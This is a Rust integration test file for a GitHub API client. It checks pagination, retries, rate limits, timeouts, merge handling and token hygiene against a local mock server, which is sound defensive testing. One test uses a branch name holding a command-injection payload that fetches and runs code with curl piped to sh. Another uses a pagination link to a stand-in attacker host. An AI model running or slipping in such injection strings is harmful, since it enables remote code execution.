//! The GitHub adapter over real HTTP, against a small warp server started in
//! each test that answers with GitHub's example bodies and records what it
//! received.

use serde_json::{Value, json};
use sluice::config::GithubConfig;
use sluice::core::{
    CommitState, MergeMethod, MergeResult, PrKey, RepoName, ReviewFact, ReviewState, Sha, Timestamp,
};
use sluice::forge::github::GitHub;
use sluice::forge::{CommitStatus, Forge, ForgeError, PrFetch};
use std::collections::HashMap;
use std::net::SocketAddr;
use std::path::Path;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};
use warp::Filter;

const TOKEN: &str = "ghp_test_token_123";
const HEAD: &str = "6dcb09b5b57875f334f61aebed695e2e4193db5e";

/// A request as the server saw it.
#[derive(Clone, Debug)]
struct Seen {
    method: String,
    /// Raw path, percent-encoding kept.
    path: String,
    query: String,
    headers: HashMap<String, String>,
    body: Vec<u8>,
    at: Instant,
}

impl Seen {
    fn json(&self) -> Value {
        serde_json::from_slice(&self.body).unwrap()
    }
    fn header(&self, name: &str) -> Option<&str> {
        self.headers.get(name).map(String::as_str)
    }
}

/// What the server answers.
struct Answer {
    status: u16,
    headers: Vec<(String, String)>,
    body: String,
    delay: Duration,
}

impl Answer {
    fn json(status: u16, body: impl Into<String>) -> Answer {
        Answer {
            status,
            headers: vec![("content-type".into(), "application/json".into())],
            body: body.into(),
            delay: Duration::ZERO,
        }
    }
    fn header(mut self, name: &str, value: &str) -> Answer {
        self.headers.push((name.into(), value.into()));
        self
    }
}

type Handler = dyn Fn(&Seen, usize, SocketAddr) -> Answer + Send + Sync;

struct Server {
    addr: SocketAddr,
    seen: Arc<Mutex<Vec<Seen>>>,
}

impl Server {
    /// Starts a server whose answers come from `handler(request, index of
    /// this request among those to the same path, server address)`.
    async fn start(
        handler: impl Fn(&Seen, usize, SocketAddr) -> Answer + Send + Sync + 'static,
    ) -> Server {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        let seen: Arc<Mutex<Vec<Seen>>> = Arc::default();
        let handler: Arc<Handler> = Arc::new(handler);
        let route = {
            let seen = seen.clone();
            warp::method()
                .and(warp::path::full())
                .and(warp::query::raw().or(warp::any().map(String::new)).unify())
                .and(warp::header::headers_cloned())
                .and(warp::body::bytes())
                .then(
                    move |method: http::Method,
                          path: warp::path::FullPath,
                          query: String,
                          headers: http::HeaderMap,
                          body: bytes::Bytes| {
                        let seen = seen.clone();
                        let handler = handler.clone();
                        async move {
                            let request = Seen {
                                method: method.to_string(),
                                path: path.as_str().to_string(),
                                query,
                                headers: headers
                                    .iter()
                                    .map(|(k, v)| {
                                        (k.to_string(), v.to_str().unwrap_or("").to_string())
                                    })
                                    .collect(),
                                body: body.to_vec(),
                                at: Instant::now(),
                            };
                            let index = {
                                let mut seen = seen.lock().unwrap();
                                let index = seen.iter().filter(|s| s.path == request.path).count();
                                seen.push(request.clone());
                                index
                            };
                            let answer = handler(&request, index, addr);
                            tokio::time::sleep(answer.delay).await;
                            let mut response = http::Response::builder().status(answer.status);
                            for (k, v) in &answer.headers {
                                response = response.header(k, v);
                            }
                            response.body(answer.body).unwrap()
                        }
                    },
                )
        };
        tokio::spawn(warp::serve(route).incoming(listener).run());
        Server { addr, seen }
    }

    fn seen(&self) -> Vec<Seen> {
        self.seen.lock().unwrap().clone()
    }

    fn config(&self, api_path: &str) -> GithubConfig {
        GithubConfig {
            api_url: format!("http://{}{api_path}", self.addr),
            request_timeout_secs: 1,
            max_retries: 3,
            status_context: "sluice/test".into(),
            ..GithubConfig::default()
        }
    }

    fn github(&self) -> GitHub {
        GitHub::new(&self.config(""), Some(TOKEN.into()))
            .unwrap()
            .with_backoff_base(Duration::from_millis(20))
    }
}

fn testdata(file: &str) -> String {
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("testdata/github-api");
    std::fs::read_to_string(dir.join(file)).unwrap()
}

fn repo() -> RepoName {
    RepoName::parse("octocat/Hello-World").unwrap()
}

fn pr(number: u64) -> PrKey {
    PrKey {
        repo: repo(),
        number,
    }
}

fn sha(s: &str) -> Sha {
    Sha::parse(s).unwrap()
}

/// The example PR with another number.
fn pr_json(number: u64) -> Value {
    let mut v: Value =
        serde_json::from_str(&testdata("pulls__get.response.200.default.json")).unwrap();
    v["number"] = json!(number);
    v
}

#[tokio::test]
async fn list_open_prs_follows_three_pages_under_an_api_path() {
    // GitHub Enterprise style base (`/api/v3`); next links are absolute and
    // carry the base path, as GitHub sends them.
    let server = Server::start(|req, _, addr| {
        let page: usize = req
            .query
            .split('&')
            .find_map(|kv| kv.strip_prefix("page="))
            .map_or(1, |p| p.parse().unwrap());
        let mut list: Value =
            serde_json::from_str(&testdata("pulls__list.response.200.default.json")).unwrap();
        list[0]["number"] = json!(page);
        let answer = Answer::json(200, list.to_string());
        if page < 3 {
            let next = format!(
                "<http://{addr}/api/v3/repositories/1296269/pulls?state=open&per_page=100&page={}>; rel=\"next\", \
                 <http://{addr}/api/v3/repositories/1296269/pulls?state=open&per_page=100&page=3>; rel=\"last\"",
                page + 1
            );
            answer.header("link", &next)
        } else {
            answer
        }
    })
    .await;
    let gh = GitHub::new(&server.config("/api/v3"), Some(TOKEN.into())).unwrap();
    let prs = gh.list_open_prs(&repo()).await.unwrap();
    assert_eq!(
        prs.iter().map(|p| p.key.number).collect::<Vec<_>>(),
        vec![1, 2, 3]
    );
    let first = &prs[0];
    assert_eq!(first.key.repo, repo());
    assert_eq!(first.head_sha, sha(HEAD));
    assert_eq!(first.head_ref, "new-topic");
    assert_eq!(first.base_ref, "master");
    assert_eq!(first.title, "Amazing new feature");
    assert_eq!(first.author, "octocat");
    assert_eq!(first.labels, vec!["bug".to_string()]);
    assert!(!first.draft);
    // 2011-01-26T19:01:12Z
    assert_eq!(first.created_at, Timestamp(1_296_068_472_000));

    let seen = server.seen();
    assert_eq!(seen.len(), 3);
    assert_eq!(seen[0].path, "/api/v3/repos/octocat/Hello-World/pulls");
    assert_eq!(seen[0].query, "state=open&per_page=100");
    assert_eq!(seen[1].path, "/api/v3/repositories/1296269/pulls");
    assert!(seen[2].query.ends_with("page=3"), "{:?}", seen[2].query);
    for s in &seen {
        assert_eq!(s.method, "GET");
        assert_eq!(
            s.header("authorization"),
            Some(format!("Bearer {TOKEN}").as_str()),
            "every page carries the token"
        );
    }
}

#[tokio::test]
async fn next_links_to_another_host_are_not_followed() {
    let server = Server::start(|_, _, _| {
        Answer::json(200, "[]").header(
            "link",
            "<http://evil.example/repos/o/r/pulls?page=2>; rel=\"next\"",
        )
    })
    .await;
    let err = server.github().list_open_prs(&repo()).await.unwrap_err();
    assert!(matches!(err, ForgeError::Decode { .. }), "{err}");
    assert_eq!(server.seen().len(), 1);
}

#[tokio::test]
async fn get_pr_open_closed_and_missing() {
    let server = Server::start(|req, _, _| match req.path.as_str() {
        "/repos/octocat/Hello-World/pulls/1" => Answer::json(200, pr_json(1).to_string()),
        "/repos/octocat/Hello-World/pulls/2" => {
            let mut v = pr_json(2);
            v["state"] = json!("closed");
            Answer::json(200, v.to_string())
        }
        _ => Answer::json(404, r#"{"message":"Not Found"}"#),
    })
    .await;
    let gh = server.github();
    let Some(PrFetch::Open(open)) = gh.get_pr(&pr(1)).await.unwrap() else {
        panic!("expected an open PR")
    };
    assert_eq!(open.key, pr(1));
    assert_eq!(open.mergeable, Some(true));
    assert_eq!(open.head_sha, sha(HEAD));
    assert!(matches!(
        gh.get_pr(&pr(2)).await.unwrap(),
        Some(PrFetch::Closed { .. })
    ));
    assert_eq!(gh.get_pr(&pr(3)).await.unwrap(), None);
}

#[tokio::test]
async fn reviews_carry_write_permission_checked_once_per_reviewer() {
    let server = Server::start(|req, _, _| {
        let path = req.path.as_str();
        if path.ends_with("/reviews") {
            let example: Value =
                serde_json::from_str(&testdata("pulls__list-reviews.response.200.default.json"))
                    .unwrap();
            let mut approve = example[0].clone();
            approve["id"] = json!(80);
            let mut again = example[0].clone();
            again["id"] = json!(81);
            again["state"] = json!("CHANGES_REQUESTED");
            let mut reader = example[0].clone();
            reader["id"] = json!(82);
            reader["state"] = json!("COMMENTED");
            reader["user"]["login"] = json!("reader");
            let mut ghost = example[0].clone();
            ghost["id"] = json!(83);
            ghost["user"] = Value::Null;
            return Answer::json(200, json!([approve, again, reader, ghost]).to_string());
        }
        match path {
            "/repos/octocat/Hello-World/collaborators/octocat/permission" => {
                Answer::json(200, r#"{"permission":"write","role_name":"maintain"}"#)
            }
            "/repos/octocat/Hello-World/collaborators/reader/permission" => {
                Answer::json(200, r#"{"permission":"read","role_name":"read"}"#)
            }
            _ => Answer::json(404, r#"{"message":"Not Found"}"#),
        }
    })
    .await;
    let gh = server.github();
    let expected = vec![
        ReviewFact {
            reviewer: "octocat".into(),
            state: ReviewState::Approved,
            id: 80,
            can_write: true,
        },
        ReviewFact {
            reviewer: "octocat".into(),
            state: ReviewState::ChangesRequested,
            id: 81,
            can_write: true,
        },
        ReviewFact {
            reviewer: "reader".into(),
            state: ReviewState::Commented,
            id: 82,
            can_write: false,
        },
    ];
    assert_eq!(gh.reviews(&pr(7)).await.unwrap(), expected);
    // The second read uses the permission cache.
    assert_eq!(gh.reviews(&pr(7)).await.unwrap(), expected);
    let seen = server.seen();
    let permission_calls = seen
        .iter()
        .filter(|s| s.path.ends_with("/permission"))
        .count();
    assert_eq!(permission_calls, 2, "one per distinct reviewer");
    let reviews = seen.iter().find(|s| s.path.ends_with("/reviews")).unwrap();
    assert_eq!(reviews.path, "/repos/octocat/Hello-World/pulls/7/reviews");
    assert_eq!(reviews.query, "per_page=100");
}

#[tokio::test]
async fn server_errors_are_retried_until_success() {
    let server = Server::start(|_, index, _| {
        if index < 2 {
            Answer::json(502, r#"{"message":"Bad Gateway"}"#)
        } else {
            Answer::json(200, testdata("repos__get-branch.response.200.default.json"))
        }
    })
    .await;
    let head = server.github().branch_head(&repo(), "main").await.unwrap();
    assert_eq!(head, Some(sha("7fd1a60b01f91b314f59955a4e4d4e80d8edf11d")));
    let seen = server.seen();
    assert_eq!(seen.len(), 3);
    // Exponential: the second wait is longer than the first.
    let first_wait = seen[1].at - seen[0].at;
    let second_wait = seen[2].at - seen[1].at;
    assert!(first_wait >= Duration::from_millis(20), "{first_wait:?}");
    assert!(second_wait >= Duration::from_millis(40), "{second_wait:?}");
}

#[tokio::test]
async fn server_errors_give_up_after_max_retries() {
    let server = Server::start(|_, _, _| Answer::json(500, r#"{"message":"boom"}"#)).await;
    let err = server
        .github()
        .branch_head(&repo(), "main")
        .await
        .unwrap_err();
    match err {
        ForgeError::Http {
            status, message, ..
        } => {
            assert_eq!(status, 500);
            assert_eq!(message, "boom");
        }
        other => panic!("{other}"),
    }
    assert_eq!(server.seen().len(), 4, "one call and max_retries=3 retries");
}

#[tokio::test]
async fn rate_limit_with_retry_after_waits_before_retrying() {
    let server = Server::start(|_, index, _| {
        if index == 0 {
            Answer::json(
                403,
                r#"{"message":"You have exceeded a secondary rate limit"}"#,
            )
            .header("retry-after", "1")
        } else {
            Answer::json(200, testdata("repos__get-branch.response.200.default.json"))
        }
    })
    .await;
    let head = server.github().branch_head(&repo(), "main").await.unwrap();
    assert!(head.is_some());
    let seen = server.seen();
    assert_eq!(seen.len(), 2);
    assert!(
        seen[1].at - seen[0].at >= Duration::from_secs(1),
        "waited {:?}",
        seen[1].at - seen[0].at
    );
}

#[tokio::test]
async fn rate_limit_reset_header_is_honoured_and_long_waits_give_up() {
    let server = Server::start(|req, index, _| {
        let now = std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .unwrap()
            .as_secs();
        if req.path.ends_with("/long") {
            return Answer::json(429, r#"{"message":"API rate limit exceeded"}"#)
                .header("x-ratelimit-remaining", "0")
                .header("x-ratelimit-reset", &(now + 3600).to_string());
        }
        if index == 0 {
            Answer::json(403, r#"{"message":"API rate limit exceeded"}"#)
                .header("x-ratelimit-remaining", "0")
                .header("x-ratelimit-reset", &(now + 1).to_string())
        } else {
            Answer::json(200, testdata("repos__get-branch.response.200.default.json"))
        }
    })
    .await;
    let gh = server.github();
    assert!(gh.branch_head(&repo(), "main").await.unwrap().is_some());
    // An hour-long limit is not slept through: the call fails at once.
    let started = Instant::now();
    let err = gh.branch_head(&repo(), "long").await.unwrap_err();
    assert!(started.elapsed() < Duration::from_secs(1));
    assert!(matches!(err, ForgeError::Http { status: 429, .. }), "{err}");
}

#[tokio::test]
async fn plain_forbidden_is_not_retried() {
    let server =
        Server::start(|_, _, _| Answer::json(403, r#"{"message":"Resource not accessible"}"#))
            .await;
    let err = server
        .github()
        .branch_head(&repo(), "main")
        .await
        .unwrap_err();
    assert!(matches!(err, ForgeError::Http { status: 403, .. }), "{err}");
    assert_eq!(server.seen().len(), 1);
}

#[tokio::test]
async fn a_hanging_endpoint_times_out() {
    let server = Server::start(|_, _, _| {
        let mut answer = Answer::json(200, "{}");
        answer.delay = Duration::from_secs(30);
        answer
    })
    .await;
    let mut config = server.config("");
    config.max_retries = 0;
    let gh = GitHub::new(&config, None).unwrap();
    let started = Instant::now();
    let err = gh.branch_head(&repo(), "main").await.unwrap_err();
    let elapsed = started.elapsed();
    assert!(matches!(err, ForgeError::Timeout { .. }), "{err}");
    assert!(
        elapsed >= Duration::from_secs(1) && elapsed < Duration::from_millis(1800),
        "{elapsed:?}"
    );

    // With retries, each attempt gets its own timeout.
    config.max_retries = 1;
    let gh = GitHub::new(&config, None)
        .unwrap()
        .with_backoff_base(Duration::from_millis(10));
    let err = gh.branch_head(&repo(), "main").await.unwrap_err();
    assert!(matches!(err, ForgeError::Timeout { .. }), "{err}");
    assert_eq!(server.seen().len(), 3);
}

#[tokio::test]
async fn connection_refused_is_a_transport_error_after_retries() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = listener.local_addr().unwrap();
    drop(listener);
    let config = GithubConfig {
        api_url: format!("http://{addr}"),
        request_timeout_secs: 1,
        max_retries: 1,
        ..GithubConfig::default()
    };
    let gh = GitHub::new(&config, None)
        .unwrap()
        .with_backoff_base(Duration::from_millis(10));
    let err = gh.branch_head(&repo(), "main").await.unwrap_err();
    assert!(matches!(err, ForgeError::Transport { .. }), "{err}");
}

#[tokio::test]
async fn branch_names_are_encoded_and_missing_branches_are_none() {
    let server = Server::start(|req, _, _| {
        if req.path == "/repos/octocat/Hello-World/branches/main" {
            Answer::json(200, testdata("repos__get-branch.response.200.default.json"))
        } else {
            Answer::json(404, r#"{"message":"Branch not found"}"#)
        }
    })
    .await;
    let gh = server.github();
    assert!(gh.branch_head(&repo(), "main").await.unwrap().is_some());
    let evil = "feature/$(curl${IFS}evil|sh)#1 ?x";
    assert_eq!(gh.branch_head(&repo(), evil).await.unwrap(), None);
    let seen = server.seen();
    assert_eq!(
        seen[1].path,
        "/repos/octocat/Hello-World/branches/feature%2F%24%28curl%24%7BIFS%7Devil%7Csh%29%231%20%3Fx"
    );
    assert_eq!(seen[1].query, "");
}

#[tokio::test]
async fn merge_results_follow_github_status_codes() {
    let server = Server::start(|req, _, _| {
        let number: u64 = req
            .path
            .trim_start_matches("/repos/octocat/Hello-World/pulls/")
            .trim_end_matches("/merge")
            .parse()
            .unwrap();
        match number {
            200 => Answer::json(
                200,
                testdata("pulls__merge.response.200.response-if-merge-was-successful.json"),
            ),
            409 => Answer::json(
                409,
                testdata(
                    "pulls__merge.response.409.response-if-sha-was-provided-and-pull-request-head-did-not-match.json",
                ),
            ),
            405 => Answer::json(
                405,
                testdata("pulls__merge.response.405.response-if-merge-cannot-be-performed.json"),
            ),
            422 => Answer::json(
                422,
                r#"{"message":"Required status check \"sluice\" is expected."}"#,
            ),
            _ => Answer::json(500, r#"{"message":"boom"}"#),
        }
    })
    .await;
    let gh = server.github();
    let head = sha(&"a".repeat(40));
    assert_eq!(
        gh.merge(&pr(200), &head, MergeMethod::Squash, "Merge #200")
            .await,
        MergeResult::Merged {
            merge_sha: sha(HEAD)
        }
    );
    assert_eq!(
        gh.merge(&pr(409), &head, MergeMethod::Merge, "t").await,
        MergeResult::HeadMoved
    );
    assert_eq!(
        gh.merge(&pr(405), &head, MergeMethod::Merge, "t").await,
        MergeResult::Refused {
            reason: "Pull Request is not mergeable".into()
        }
    );
    assert_eq!(
        gh.merge(&pr(422), &head, MergeMethod::Rebase, "t").await,
        MergeResult::Refused {
            reason: "Required status check \"sluice\" is expected.".into()
        }
    );
    let MergeResult::Failed { reason } = gh.merge(&pr(500), &head, MergeMethod::Merge, "t").await
    else {
        panic!("expected Failed")
    };
    assert!(
        reason.contains("500") && reason.contains("boom"),
        "{reason}"
    );

    let seen = server.seen();
    let first = &seen[0];
    assert_eq!(first.method, "PUT");
    assert_eq!(first.path, "/repos/octocat/Hello-World/pulls/200/merge");
    assert_eq!(
        first.json(),
        json!({"sha": "a".repeat(40), "merge_method": "squash", "commit_title": "Merge #200"})
    );
    assert_eq!(
        first.header("authorization"),
        Some(format!("Bearer {TOKEN}").as_str())
    );
    let rebase = seen
        .iter()
        .find(|s| s.path.contains("/422/"))
        .unwrap()
        .json();
    assert_eq!(rebase["merge_method"], "rebase");
    assert_eq!(rebase["sha"], "a".repeat(40));
    assert_eq!(
        seen.iter().filter(|s| s.path.contains("/500/")).count(),
        4,
        "5xx merges are retried"
    );
}

/// GitHub merges, but its answer comes after the client's timeout: the
/// PUT is not sent again blindly (a second one is refused, the PR being
/// closed); the PR is read, and it says the merge happened.
#[tokio::test]
async fn a_merge_whose_answer_is_lost_is_found_merged_not_refused() {
    const MERGED: &str = "e5bd3914e2e596debea16f433f57875b5b90bcd6";
    let server = Server::start(|req, index, _| match (req.method.as_str(), index) {
        ("PUT", 0) => {
            let mut slow = Answer::json(
                200,
                testdata("pulls__merge.response.200.response-if-merge-was-successful.json"),
            );
            slow.delay = Duration::from_secs(3);
            slow
        }
        ("PUT", _) => Answer::json(
            405,
            testdata("pulls__merge.response.405.response-if-merge-cannot-be-performed.json"),
        ),
        _ => {
            let mut closed = pr_json(7);
            closed["state"] = json!("closed");
            closed["merged_at"] = json!("2026-12-07T22:00:00Z");
            closed["merge_commit_sha"] = json!(MERGED);
            Answer::json(200, closed.to_string())
        }
    })
    .await;
    let result = server
        .github()
        .merge(&pr(7), &sha(HEAD), MergeMethod::Merge, "Merge #7")
        .await;
    assert_eq!(
        result,
        MergeResult::Merged {
            merge_sha: sha(MERGED)
        }
    );
    let puts = server.seen().iter().filter(|s| s.method == "PUT").count();
    assert_eq!(
        puts, 1,
        "the merge is not sent again once GitHub says it happened"
    );
}

/// GitHub's description of `GET /branches/{branch}`: 200, 301 (the branch
/// was renamed) or 404. A renamed branch is gone under its old name, as a
/// deleted one: not an error retried for ever.
#[tokio::test]
async fn a_renamed_or_missing_branch_has_no_head() {
    let server = Server::start(|req, _, addr| match req.path.as_str() {
        "/repos/octocat/Hello-World/branches/renamed" => Answer::json(
            301,
            r#"{"message":"Moved Permanently","url":"https://api.github.com/repositories/1296269/branches/renamed","documentation_url":"https://docs.github.com/rest/branches/branches#get-a-branch"}"#,
        )
        .header(
            "location",
            &format!("http://{addr}/repositories/1296269/branches/renamed"),
        ),
        "/repos/octocat/Hello-World/branches/gone" => {
            Answer::json(404, r#"{"message":"Branch not found"}"#)
        }
        _ => Answer::json(200, testdata("repos__get-branch.response.200.default.json")),
    })
    .await;
    let gh = server.github();
    assert_eq!(gh.branch_head(&repo(), "renamed").await.unwrap(), None);
    assert_eq!(gh.branch_head(&repo(), "gone").await.unwrap(), None);
    assert!(gh.branch_head(&repo(), "main").await.unwrap().is_some());
    let renamed = server
        .seen()
        .iter()
        .filter(|s| s.path.ends_with("/renamed"))
        .count();
    assert_eq!(renamed, 1, "a 301 is an answer, not retried");
}

#[tokio::test]
async fn set_status_posts_state_context_link_and_short_description() {
    let server = Server::start(|_, _, _| {
        Answer::json(
            201,
            testdata("repos__create-commit-status.response.201.default.json"),
        )
    })
    .await;
    let gh = server.github();
    let head = sha(HEAD);
    gh.set_status(
        &repo(),
        &head,
        &CommitStatus {
            state: CommitState::Failure,
            description: "x".repeat(500),
            target_url: Some("https://sluice.example/results/1".into()),
            summary: String::new(),
        },
    )
    .await
    .unwrap();
    gh.set_status(
        &repo(),
        &head,
        &CommitStatus {
            state: CommitState::Pending,
            description: "queued".into(),
            target_url: None,
            summary: String::new(),
        },
    )
    .await
    .unwrap();
    let seen = server.seen();
    assert_eq!(seen[0].method, "POST");
    assert_eq!(
        seen[0].path,
        format!("/repos/octocat/Hello-World/statuses/{HEAD}")
    );
    let body = seen[0].json();
    assert_eq!(body["state"], "failure");
    assert_eq!(body["context"], "sluice/test");
    assert_eq!(body["target_url"], "https://sluice.example/results/1");
    assert_eq!(body["description"].as_str().unwrap().chars().count(), 140);
    let body = seen[1].json();
    assert_eq!(
        body,
        json!({"state": "pending", "context": "sluice/test", "description": "queued"})
    );
    assert_eq!(
        seen[0].header("authorization"),
        Some(format!("Bearer {TOKEN}").as_str())
    );
}

#[tokio::test]
async fn without_a_token_no_authorization_is_sent() {
    let server = Server::start(|_, _, _| {
        Answer::json(200, testdata("repos__get-branch.response.200.default.json"))
    })
    .await;
    let gh = GitHub::new(&server.config(""), None).unwrap();
    gh.branch_head(&repo(), "main").await.unwrap();
    assert_eq!(server.seen()[0].header("authorization"), None);
}

#[tokio::test]
async fn the_token_is_not_in_debug_output() {
    let server = Server::start(|_, _, _| Answer::json(200, "{}")).await;
    let gh = server.github();
    assert!(!format!("{gh:?}").contains(TOKEN));
}
